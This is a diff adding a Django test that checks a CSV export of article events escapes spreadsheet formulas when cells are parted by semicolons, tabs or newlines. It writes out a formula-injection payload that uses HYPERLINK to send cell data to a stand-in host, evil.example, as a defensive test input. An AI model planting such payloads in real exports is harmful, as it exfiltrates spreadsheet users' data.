@@ -16,7 +16,7 @@ from django.utils import timezone
 
 from articles import record, workflow
 from articles.models import Event, Section, SectionRole
-from tests.people import draft, published, rewrite
+from tests.people import again, draft, published, rewrite
 
 pytestmark = pytest.mark.django_db
 LIST, LINES = reverse("admin:articles_event_changelist"), reverse("admin:articles_event_lines")
@@ -149,6 +149,22 @@ def test_the_table_holds_the_same_as_the_lines_and_no_formula(desk, mira):
     out = StringIO()
     call_command("export_record", "--csv", stdout=out)
     assert out.getvalue() == text
+
+
+def test_no_formula_comes_up_either_where_cells_are_parted_by_semicolons_or_tabs(desk, mira):
+    article = published(mira)
+    for part in (";", "\t", ";; ", ';"', "\n", "\n;\t"):
+        note = f'see {part}=HYPERLINK("http://evil.example/?"&A1){part}+1; a-b, x=y; "z"'
+        workflow.correct(again(article), by=mira, based_on=again(article).working, note=note)
+    text = b"".join(desk.get(TABLE).streaming_content).decode()
+    for mark in ",;\t":
+        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
+            rows = csv.reader(text.splitlines(True), delimiter=mark, quoting=quoting)
+            cells = [cell.lstrip(' "') for row in rows for cell in row]
+            assert not [cell for cell in cells if cell[:1] in set("=+-@")], (mark, quoting)
+    rows = list(csv.DictReader(StringIO(text.removeprefix("\ufeff"), newline="")))
+    assert [json.loads(row["details"]) for row in rows] == [it["details"] for it in exported()]
+    assert rows[-1]["note"].endswith('; a-b, x=y; "z"')
 
 
 # --- Narrowed on the desk ------------------------------------------------------------------------
